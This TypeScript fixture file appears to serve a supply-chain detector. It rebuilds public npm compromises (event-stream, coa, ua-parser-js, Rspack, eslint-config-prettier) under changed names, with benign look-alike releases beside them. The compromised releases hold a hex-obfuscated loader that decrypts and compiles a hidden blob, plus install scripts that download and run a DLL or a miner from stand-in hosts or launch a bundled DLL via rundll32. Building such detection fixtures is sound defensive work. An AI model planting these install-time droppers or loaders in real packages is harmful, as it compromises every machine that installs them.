/**
 * Reconstructions of public takeover write-ups (names changed, hosts `.invalid`, payloads inert),
 * and benign look-alikes. Provenance: the write-up each one follows.
 */
import { person, type Reconstruction, type ReleaseSpec, type SourceCommit } from './reconstruct.js';

const LIB = "'use strict';\nvar Stream = require('stream');\nmodule.exports = function merge(a, b) { return a.concat(b); };\n";
const hex = (n: number, seed: number): string =>
  Array.from({ length: n }, (_, i) => ((i * 7919 + seed * 104729) % 256).toString(16).padStart(2, '0')).join('');
/** One long minified line that reads an encrypted blob from a "test" file (the flatmap-stream loader shape). */
const MINIFIED = `!function(){try{var r=require,t=process;function e(r){return Buffer.from(r,"hex").toString()}var n=r(e("2e2f746573742f64617461")),o=t[e(${JSON.stringify(Buffer.from('env').toString('hex'))})][e(${JSON.stringify(Buffer.from('npm_package_description').toString('hex'))})],u=r(e(${JSON.stringify(Buffer.from('crypto').toString('hex'))}))[e(${JSON.stringify(Buffer.from('createDecipher').toString('hex'))})](e("6165732d3235362d636263"),o),a=u.update(n[0],e("686578"),e("75746638"));a+=u.final(e("75746638"));var f=new module.constructor;f.paths=module.paths,f[e("5f636f6d70696c65")](a,""),f.exports(n[1])}catch(r){}}();var Stream=require("stream");module.exports=function(r){var t=new Stream.Transform({objectMode:!0});return t._transform=function(t,e,n){var o=this;Promise.resolve(r(t)).then(function(r){(Array.isArray(r)?r:[r]).forEach(function(r){o.push(r)}),n()},n)},t};${'t.push(r[0]);'.repeat(80)}\nrequire("./test/data");\n`;
const DATA = `module.exports = [\n  "${hex(700, 1)}",\n  "${hex(300, 2)}"\n];\n`;

const rel = (version: string, publisher: string, time: string, extra: Partial<ReleaseSpec> = {}): ReleaseSpec => ({
  version,
  publisher,
  time,
  files: { 'index.js': LIB },
  dependencies: { 'through-lite': '^2.3.1' },
  ...extra,
});

/** event-stream 3.3.5/3.3.6 → flatmap-stream 0.1.1 (Sep–Nov 2018). */
export const DORMANT_HANDOVER_PAYLOAD_DEPENDENCY: Reconstruction = {
  id: 'dormant-handover-payload-dependency',
  family: 'handover + new payload dependency',
  provenance:
    'event-stream incident write-ups (GitHub dominictarr/event-stream#116, Nov 2018; npm blog "Details about the event-stream incident", Nov 2018): the author handed a dormant package to a volunteer who added a brand-new dependency by another new account; its next release shipped a minified entry point and an encrypted test/data.js absent from its repository.',
  packages: [
    { name: 'through-lite', releases: [rel('2.3.1', 'tess', '2014-05-01T10:00:00.000Z', { dependencies: {} })] },
    {
      name: 'stream-joiner',
      releases: [
        rel('3.3.2', 'alice', '2015-03-01T10:00:00.000Z'),
        rel('3.3.3', 'alice', '2015-09-01T10:00:00.000Z'),
        rel('3.3.4', 'alice', '2016-01-10T10:00:00.000Z'),
        rel('3.3.5', 'mallory', '2018-09-04T10:00:00.000Z', { maintainers: ['alice', 'mallory'] }),
        rel('3.3.6', 'mallory', '2018-09-09T10:00:00.000Z', {
          maintainers: ['alice', 'mallory'],
          dependencies: { 'through-lite': '^2.3.1', 'flat-map-lite': '^0.1.0' },
        }),
      ],
    },
    {
      name: 'flat-map-lite',
      releases: [
        { version: '0.1.0', publisher: 'flatdev', time: '2018-09-05T08:00:00.000Z', main: 'index.js', files: { 'index.js': LIB } },
        {
          version: '0.1.1',
          publisher: 'flatdev',
          time: '2018-10-05T08:00:00.000Z',
          main: 'index.min.js',
          files: { 'index.js': LIB, 'index.min.js': MINIFIED, 'test/data.js': DATA },
        },
      ],
    },
  ],
  locked: { 'stream-joiner': '3.3.6', 'flat-map-lite': '0.1.1', 'through-lite': '2.3.1' },
  edges: { 'stream-joiner': ['flat-map-lite', 'through-lite'] },
  sources: {
    'flat-map-lite': [
      {
        author: person('flatdev'),
        date: '2018-09-05T07:00:00Z',
        message: 'initial',
        files: {
          'index.js': LIB,
          'README.md': '# flat-map-lite\n',
          'package.json': '{"name":"flat-map-lite","version":"0.1.0","main":"index.js"}\n',
        },
        tag: 'v0.1.0',
      },
      {
        author: person('flatdev'),
        date: '2018-10-05T07:00:00Z',
        message: '0.1.1',
        files: {
          'package.json': '{"name":"flat-map-lite","version":"0.1.1","main":"index.js"}\n',
          'test/index.js': "require('../index.js');\n",
        },
        tag: 'v0.1.1',
      },
    ],
  },
  expect: { subject: 'stream-joiner@3.3.6', names: ['mallory', 'flat-map-lite', 'index.min.js', 'test/data.js'] },
};

const CLI = "'use strict';\nmodule.exports = function parse(argv) { return argv.slice(2); };\n";
/** An obfuscated dropper's shape: hex-encoded strings decoded and handed to child_process (inert: `.invalid` host). */
const DROPPER = `const _0x = ['${Buffer.from('child_process').toString('hex')}', '${Buffer.from('curl -s https://dl.example.invalid/sdd.dll -o sdd.dll').toString('hex')}'];\nconst d = (h) => Buffer.from(h, 'hex').toString();\nrequire(d(_0x[0])).exec(d(_0x[1]) + ' ${'&& echo '.repeat(1)}${'a1b2c3d4'.repeat(60)}');\n`;

/** coa / rc (Nov 2021): a maintainer account hijacked after ~3 years without a release. */
export const DORMANT_ACCOUNT_HIJACK: Reconstruction = {
  id: 'dormant-account-hijack',
  family: 'hijacked account + install-time dropper',
  provenance:
    "coa and rc compromise (Nov 4 2021; GHSA-73qr-pfmq-6rp8, GHSA-g2q5-5433-rhrf; write-ups by C. Tumbleson and Checkmarx): after about three years without a release, new versions were published from the maintainer's account with a preinstall running compile.js/compile.bat, files absent from the GitHub repository, which saw no change.",
  packages: [
    {
      name: 'opt-parse-lite',
      releases: [
        {
          version: '2.0.1',
          publisher: 'veteran',
          time: '2018-06-01T10:00:00.000Z',
          main: 'index.js',
          files: { 'index.js': CLI },
          gitHead: 'a'.repeat(40),
        },
        {
          version: '2.0.2',
          publisher: 'veteran',
          time: '2018-12-10T10:00:00.000Z',
          main: 'index.js',
          files: { 'index.js': CLI },
          gitHead: 'b'.repeat(40),
        },
        {
          version: '2.0.3',
          publisher: 'veteran',
          time: '2021-11-04T13:00:00.000Z',
          main: 'index.js',
          scripts: { preinstall: 'start /B node compile.js & node compile.js' },
          files: {
            'index.js': CLI,
            'compile.js': DROPPER,
            'compile.bat': '@echo off\ncurl https://dl.example.invalid/sdd.dll -o sdd.dll\nregsvr32.exe -s sdd.dll\n',
          },
        },
      ],
    },
  ],
  locked: { 'opt-parse-lite': '2.0.3' },
  edges: {},
  sources: {
    'opt-parse-lite': [
      {
        author: person('veteran'),
        date: '2018-06-01T09:00:00Z',
        message: '2.0.1',
        files: { 'index.js': CLI, 'package.json': '{"name":"opt-parse-lite","version":"2.0.1","main":"index.js"}\n' },
        tag: 'v2.0.1',
      },
      {
        author: person('veteran'),
        date: '2018-12-10T09:00:00Z',
        message: '2.0.2',
        files: { 'package.json': '{"name":"opt-parse-lite","version":"2.0.2","main":"index.js"}\n' },
        tag: 'v2.0.2',
      },
    ],
  },
  expect: { subject: 'opt-parse-lite@2.0.3', names: ['compile.js', 'preinstall'] },
};

/** Tagged source commits, one per version, by the project's own maintainer. */
const taggedSource = (name: string, who: string, versions: [string, string][], main = 'index.js'): SourceCommit[] =>
  versions.map(([version, date], i) => ({
    author: person(who),
    date,
    message: `release ${version}`,
    files: {
      ...(i === 0 ? { [main]: CLI, 'README.md': `# ${name}\n` } : {}),
      'package.json': `${JSON.stringify({ name, version, main })}\n`,
    },
    tag: `v${version}`,
  }));

const sha = (c: string) => c.repeat(40).slice(0, 40);

/** ua-parser-js (Oct 2021): an active package's account hijacked; a preinstall in patch releases. */
export const ACTIVE_ACCOUNT_HIJACK: Reconstruction = {
  id: 'active-account-hijack',
  family: 'hijacked account + install-time dropper',
  provenance:
    "ua-parser-js 0.7.29 / 0.8.0 / 1.0.0 (Oct 22 2021; GHSA-pjwm-rvh2-c87w; Mandiant UNC3379, Checkmarx, Rapid7): published within minutes from the maintainer's hijacked account of an actively maintained package, on three release lines, with no matching commit in the repository, adding a preinstall that ran preinstall.sh / preinstall.bat to download and run a miner and a credential stealer.",
  packages: [
    {
      name: 'agent-sniff',
      releases: [
        {
          version: '0.7.26',
          publisher: 'owner',
          time: '2021-06-01T10:00:00.000Z',
          main: 'index.js',
          files: { 'index.js': CLI },
          gitHead: sha('1'),
        },
        {
          version: '0.7.27',
          publisher: 'owner',
          time: '2021-08-01T10:00:00.000Z',
          main: 'index.js',
          files: { 'index.js': CLI },
          gitHead: sha('2'),
        },
        {
          version: '0.7.28',
          publisher: 'owner',
          time: '2021-09-10T10:00:00.000Z',
          main: 'index.js',
          files: { 'index.js': CLI },
          gitHead: sha('3'),
        },
        ...['0.7.29', '0.8.0', '1.0.0'].map((version, i) => ({
          version,
          publisher: 'owner',
          time: `2021-10-22T12:${15 + 5 * i}:00.000Z`,
          main: 'index.js',
          scripts: { preinstall: 'start /B node preinstall.js & node preinstall.js' },
          files: {
            'index.js': CLI,
            'preinstall.js': "const { exec } = require('child_process');\nexec('bash preinstall.sh');\n",
            'preinstall.sh':
              '#!/bin/sh\ncurl -s http://203.0.113.7/jsextension -o jsextension && chmod +x jsextension && ./jsextension -k --tls --rig-id q -o pool.example.invalid:443 &\n',
          },
        })),
      ],
    },
  ],
  locked: { 'agent-sniff': '0.7.29' },
  edges: {},
  sources: {
    'agent-sniff': taggedSource('agent-sniff', 'owner', [
      ['0.7.26', '2021-06-01T09:00:00Z'],
      ['0.7.27', '2021-08-01T09:00:00Z'],
      ['0.7.28', '2021-09-10T09:00:00Z'],
    ]),
  },
  expect: { subject: 'agent-sniff@0.7.29', names: ['preinstall', 'preinstall.sh', '1.0.0', 'no tag'] },
};

/** A postinstall that fetches an archive over https, unpacks it and starts the binary inside (inert: documentation address). */
const FETCH_AND_RUN = `'use strict';
const https = require('https');
const fs = require('fs');
const path = require('path');
const { execFileSync, spawn } = require('child_process');
const dir = path.join(__dirname, '.cache');
fs.mkdirSync(dir, { recursive: true });
const out = path.join(dir, 'svc.tar.gz');
https.get('https://198.51.100.23/releases/svc-linux-x64.tar.gz', (res) => {
  const f = fs.createWriteStream(out);
  res.pipe(f);
  f.on('finish', () => {
    execFileSync('tar', ['-xzf', out, '-C', dir]);
    fs.chmodSync(path.join(dir, 'svc'), 0o755);
    spawn(path.join(dir, 'svc'), ['--url', 'pool.example.invalid:3333', '--background'], { detached: true, stdio: 'ignore' }).unref();
  });
});
`;

/** @rspack/core and @rspack/cli 1.1.7 (Dec 2024): a leaked publish token, a postinstall miner. */
export const LEAKED_TOKEN_POSTINSTALL_MINER: Reconstruction = {
  id: 'leaked-token-postinstall-miner',
  family: 'hijacked account + install-time dropper',
  provenance:
    'Rspack security advisory and write-ups (Dec 19 2024; Socket, Sonatype, The Hacker News "Rspack npm packages compromised"): @rspack/core and @rspack/cli 1.1.7 were published with a stolen npm token, outside the project\'s release process and with no matching release in its repository, adding a postinstall that downloaded and started an XMRig miner.',
  packages: [
    {
      name: '@bundl/core',
      releases: [
        ...['1.1.4', '1.1.5', '1.1.6'].map((version, i): ReleaseSpec => ({
          version,
          publisher: 'bundl-bot',
          time: `2024-1${i}-0${2 + i}T08:00:00.000Z`,
          main: 'dist/index.js',
          files: { 'dist/index.js': CLI },
          gitHead: sha(`${4 + i}`),
        })),
        {
          version: '1.1.7',
          publisher: 'bundl-bot',
          time: '2024-12-19T02:40:00.000Z',
          main: 'dist/index.js',
          scripts: { postinstall: 'node support.js' },
          files: { 'dist/index.js': CLI, 'support.js': FETCH_AND_RUN },
        },
      ],
    },
  ],
  locked: { '@bundl/core': '1.1.7' },
  edges: {},
  sources: {
    '@bundl/core': taggedSource(
      'core',
      'lead',
      [
        ['1.1.4', '2024-10-02T07:00:00Z'],
        ['1.1.5', '2024-11-03T07:00:00Z'],
        ['1.1.6', '2024-12-04T07:00:00Z'],
      ],
      'dist/index.js',
    ),
  },
  expect: { subject: '@bundl/core@1.1.7', names: ['postinstall', 'support.js', 'no tag'] },
};

/** A Windows DLL's headers (DOS stub pointing at a PE signature) followed by varied bytes: inert. */
const dosHeader = Buffer.alloc(0x40);
dosHeader.write('MZ', 0, 'latin1');
dosHeader.writeUInt32LE(0x40, 0x3c);
const FAKE_DLL = Buffer.concat([dosHeader, Buffer.from('PE\0\0', 'latin1'), Buffer.from(hex(3000, 9), 'hex')]);
const CONFIG = "'use strict';\nmodule.exports = { rules: { indent: 'off', quotes: 'off' } };\n";

/** eslint-config-prettier (Jul 2025): a phished maintainer token, an install script loading a bundled DLL. */
export const PHISHED_MAINTAINER_BUNDLED_DLL: Reconstruction = {
  id: 'phished-maintainer-bundled-dll',
  family: 'hijacked account + install-time dropper',
  provenance:
    "eslint-config-prettier 8.10.1, 9.1.1, 10.1.6, 10.1.7 (Jul 18 2025; CVE-2025-54313; write-ups by Socket, StepSecurity, and the maintainer's issue): after a phishing e-mail from a look-alike npm domain, versions were published on three major lines within hours with no change in the repository; npm diff showed a new install script, install.js, that ran rundll32 on a bundled node-gyp.dll (the Scavenger loader).",
  packages: [
    {
      name: 'lint-config-fmt',
      releases: [
        ...['8.10.0', '9.1.0', '10.1.4', '10.1.5'].map((version, i) => ({
          version,
          publisher: 'fmtdev',
          time: `202${3 + (i >> 1)}-0${3 + i}-10T10:00:00.000Z`,
          main: 'index.js',
          files: { 'index.js': CONFIG },
        })),
        ...['8.10.1', '9.1.1', '10.1.6'].map((version, i) => ({
          version,
          publisher: 'fmtdev',
          time: `2025-07-18T1${4 + i}:10:00.000Z`,
          main: 'index.js',
          scripts: { install: 'node install.js' },
          files: {
            'index.js': CONFIG,
            'install.js':
              "'use strict';\nconst os = require('os');\nconst path = require('path');\nconst { execSync } = require('child_process');\nif (os.platform() === 'win32') execSync('rundll32 ' + path.join(__dirname, 'node-gyp.dll') + ',main', { stdio: 'ignore' });\n",
            'node-gyp.dll': FAKE_DLL,
          },
        })),
      ],
    },
  ],
  locked: { 'lint-config-fmt': '10.1.6' },
  edges: {},
  sources: {
    'lint-config-fmt': taggedSource('lint-config-fmt', 'fmtdev', [
      ['8.10.0', '2023-03-10T09:00:00Z'],
      ['9.1.0', '2023-04-10T09:00:00Z'],
      ['10.1.4', '2024-05-10T09:00:00Z'],
      ['10.1.5', '2024-06-10T09:00:00Z'],
    ]),
  },
  expect: { subject: 'lint-config-fmt@10.1.6', names: ['install.js', 'node-gyp.dll', '9.1.1', 'no tag'] },
};

/** Benign look-alike: a security fix published to three release lines the same day, from tagged commits. */
export const BENIGN_BACKPORT_BURST: Reconstruction = {
  id: 'benign-backport-burst',
  family: 'benign: security backports on several lines',
  provenance:
    'Coordinated security releases such as node-tar 4.4.18 / 5.0.10 / 6.1.9 (Aug 2021, GHSA-qq89-hq3f-393p) and minimist 0.2.4 / 1.2.6: one fix published on every supported line within hours, each from a tagged commit.',
  packages: [
    {
      name: 'tar-lite',
      releases: [
        ...['4.4.17', '5.0.9', '6.1.7', '6.1.8'].map((version, i) => ({
          version,
          publisher: 'tarkeeper',
          time: `2021-0${3 + i}-01T10:00:00.000Z`,
          main: 'index.js',
          files: { 'index.js': CLI },
          gitHead: sha(`${i + 1}`),
        })),
        ...['4.4.18', '5.0.10', '6.1.9'].map((version, i) => ({
          version,
          publisher: 'tarkeeper',
          time: `2021-08-31T1${i}:00:00.000Z`,
          main: 'index.js',
          files: { 'index.js': CLI.replace('slice(2)', 'slice(2).filter(Boolean)') },
          gitHead: sha(`${i + 5}`),
        })),
      ],
    },
  ],
  locked: { 'tar-lite': '6.1.9' },
  edges: {},
  sources: {
    'tar-lite': taggedSource('tar-lite', 'tarkeeper', [
      ['4.4.17', '2021-03-01T09:00:00Z'],
      ['5.0.9', '2021-04-01T09:00:00Z'],
      ['6.1.7', '2021-05-01T09:00:00Z'],
      ['6.1.8', '2021-06-01T09:00:00Z'],
      ['4.4.18', '2021-08-31T09:00:00Z'],
      ['5.0.10', '2021-08-31T09:30:00Z'],
      ['6.1.9', '2021-08-31T09:40:00Z'],
    ]),
  },
  expect: { subject: 'tar-lite@6.1.9', names: [] },
};

/** Benign look-alike: a dormant package handed to a co-maintainer who splits it into his own modules. */
export const BENIGN_DORMANT_HANDOVER: Reconstruction = {
  id: 'benign-dormant-handover',
  family: 'benign: handover with own modules',
  provenance:
    'deep-equal 1.1.0 (2019) in the real packuments: after ~4 years without a release a co-maintainer published a minor release adding several small dependencies he had published himself.',
  packages: [
    {
      name: 'is-thing-a',
      releases: [{ version: '1.0.0', publisher: 'helper', time: '2019-07-01T10:00:00.000Z', files: { 'index.js': CLI } }],
    },
    {
      name: 'deep-same',
      releases: [
        rel('1.0.0', 'founder', '2014-06-01T10:00:00.000Z', { dependencies: {}, maintainers: ['founder', 'helper'] }),
        rel('1.0.1', 'founder', '2015-08-01T10:00:00.000Z', { dependencies: {}, maintainers: ['founder', 'helper'] }),
        rel('1.1.0', 'helper', '2019-08-01T10:00:00.000Z', {
          dependencies: { 'is-thing-a': '^1.0.0' },
          maintainers: ['founder', 'helper'],
        }),
      ],
    },
  ],
  locked: { 'deep-same': '1.1.0', 'is-thing-a': '1.0.0' },
  edges: { 'deep-same': ['is-thing-a'] },
  expect: { subject: 'deep-same@1.1.0', names: [] },
};

const ELF = (n: number) => Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(2048, n)]);

/** Benign look-alike: sharp 0.34.4 → 0.34.5 (an install fallback, new platform packages in its own scope). */
export const BENIGN_PREBUILT_PLATFORMS: Reconstruction = {
  id: 'benign-prebuilt-platforms',
  family: 'benign: prebuilt binaries in own scope',
  provenance:
    'sharp 0.34.5 (2025): the install script gained `|| npm run build`, and @img/sharp-linux-riscv64 and @img/sharp-libvips-linux-riscv64 were added next to the other @img/* platform packages, which ship prebuilt libvips binaries.',
  packages: [
    {
      name: '@imgx/lib-linux-x64',
      releases: [
        {
          version: '1.2.3',
          publisher: 'imgdev',
          time: '2025-09-01T10:00:00.000Z',
          os: ['linux'],
          files: { 'lib/libvips-cpp.so.8.17.2': ELF(1) },
        },
        {
          version: '1.2.4',
          publisher: 'imgdev',
          time: '2025-11-01T10:00:00.000Z',
          os: ['linux'],
          files: { 'lib/libvips-cpp.so.8.17.3': ELF(2) },
        },
      ],
    },
    {
      name: '@imgx/lib-linux-riscv64',
      releases: [
        {
          version: '1.2.4',
          publisher: 'imgdev',
          time: '2025-10-28T10:00:00.000Z',
          os: ['linux'],
          files: { 'lib/libvips-cpp.so.8.17.3': ELF(3) },
        },
      ],
    },
    {
      name: 'imgx',
      releases: [
        {
          version: '0.34.4',
          publisher: 'imgdev',
          time: '2025-09-01T12:00:00.000Z',
          main: 'index.js',
          dependencies: { '@imgx/lib-linux-x64': '1.2.3' },
          scripts: { install: 'node install/check.js', build: 'node install/build.js' },
          files: { 'index.js': CLI, 'install/check.js': "require('./build');\n", 'install/build.js': 'module.exports = 1;\n' },
        },
        {
          version: '0.34.5',
          publisher: 'imgdev',
          time: '2025-11-01T12:00:00.000Z',
          main: 'index.js',
          dependencies: { '@imgx/lib-linux-x64': '1.2.4', '@imgx/lib-linux-riscv64': '1.2.4' },
          scripts: { install: 'node install/check.js || npm run build', build: 'node install/build.js' },
          files: { 'index.js': CLI, 'install/check.js': "require('./build');\n", 'install/build.js': 'module.exports = 2;\n' },
        },
      ],
    },
  ],
  locked: { imgx: '0.34.5', '@imgx/lib-linux-x64': '1.2.4', '@imgx/lib-linux-riscv64': '1.2.4' },
  edges: { imgx: ['@imgx/lib-linux-x64', '@imgx/lib-linux-riscv64'] },
  expect: { subject: 'imgx@0.34.5', names: [] },
};

export const RECONSTRUCTIONS: Reconstruction[] = [
  DORMANT_HANDOVER_PAYLOAD_DEPENDENCY,
  DORMANT_ACCOUNT_HIJACK,
  ACTIVE_ACCOUNT_HIJACK,
  LEAKED_TOKEN_POSTINSTALL_MINER,
  PHISHED_MAINTAINER_BUNDLED_DLL,
];
export const BENIGN_LOOKALIKES: Reconstruction[] = [BENIGN_DORMANT_HANDOVER, BENIGN_PREBUILT_PLATFORMS, BENIGN_BACKPORT_BURST];
